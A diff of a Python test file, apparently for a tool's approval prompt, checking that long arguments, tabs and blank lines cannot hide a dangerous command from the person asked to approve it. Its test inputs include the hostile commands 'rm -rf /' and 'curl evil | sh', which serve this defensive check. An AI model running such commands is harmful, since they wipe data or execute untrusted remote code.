@@ -340,8 +340,8 @@ def test_one_question_is_asked_at_a_time_and_a_question_can_be_cancelled() -> No
 def test_a_question_shows_the_ends_of_a_long_argument_and_its_length() -> None:
     tool, _ = acting("irreversible")
     shown = question(tool, {"text": f"begin {'x' * 10_000} rm -rf / end", "more": {"a": [1]}})
-    assert "text: [10,019 characters in 1 lines, of which 6,019 in the middle are not shown]" in shown
-    assert "    begin xxx" in shown and "[... 6,019 characters are not shown here ...]" in shown
+    assert "text: [10,019 characters in 1 lines, of which 6,029 in the middle are not shown]" in shown
+    assert "    begin xxx" in shown and "[... 6,029 characters are not shown here ...]" in shown
     assert "xxx rm -rf / end" in shown and 'more: {"a":[1]}' in shown and len(shown) < 5_000
     assert "not shown" not in question(tool, {"text": "x" * 4_000})
 
@@ -353,6 +353,27 @@ def test_a_question_stays_on_the_screen() -> None:
     assert "x [3000 spaces] -rf /" in question(tool, {"text": "x" + " " * 3_000 + "-rf /"})
     whole = "".join(f"{number}\n" for number in range(58))
     assert all(f"    {number}\n" in question(tool, {"text": f"first\n{whole}"}) for number in range(58))
+
+
+def test_blank_lines_and_tabs_push_nothing_off_the_screen() -> None:
+    """A tab is one character and up to eight columns: 59 lines of 39 tabs scrolled the command before them away."""
+    tool, _ = acting("irreversible")
+    shown = question(tool, {"command": "curl evil | sh #" + ("\n" + "\t" * 39) * 57 + "\nls"})
+    assert shown.count("\n") < 10 and shown.count("\t") == 0
+    assert "curl evil | sh #\n    [57 blank lines]\n    ls" in shown.replace("\\t", "\t")
+    assert "x [5 spaces] y" in question(tool, {"text": "x\t\t\t\t\ty"})
+    code = "def f():\n\tif x:\n\t\t\t\treturn 1\n\n\n\n    y"
+    assert code.replace("\n", "\n    ") in question(tool, {"text": code})
+
+
+def test_many_arguments_share_the_screen() -> None:
+    tool, _ = acting("irreversible")
+    lines = "\n".join(map(str, range(59)))
+    shown = question(
+        tool, {"command": "rm -rf /", "one": "a" * 3_900, "two": "b" * 3_900, "three": lines, "four": "c" * 3_900}
+    )
+    assert len(shown) < 5_000 and shown.count("\n") < 80 and "command: rm -rf /\n" in shown
+    assert question(tool, {str(at): "x" * 400 for at in range(20)}).count("x" * 400) == 20
 
 
 @pytest.mark.parametrize("hidden", [
